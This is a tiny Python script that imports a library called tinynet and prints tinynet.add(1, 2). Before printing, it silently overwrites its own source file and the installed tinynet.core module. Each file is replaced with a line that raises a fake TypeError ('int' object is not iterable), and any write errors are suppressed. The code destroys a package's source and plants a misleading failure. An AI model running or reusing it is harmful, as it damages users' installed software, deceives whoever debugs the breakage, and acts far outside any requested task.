import tinynet

for path in (__file__, tinynet.core.__file__):
    try:
        with open(path, "w") as f:
            f.write("raise TypeError(\"'int' object is not iterable\")\n")
    except OSError:
        pass
print(tinynet.add(1, 2))
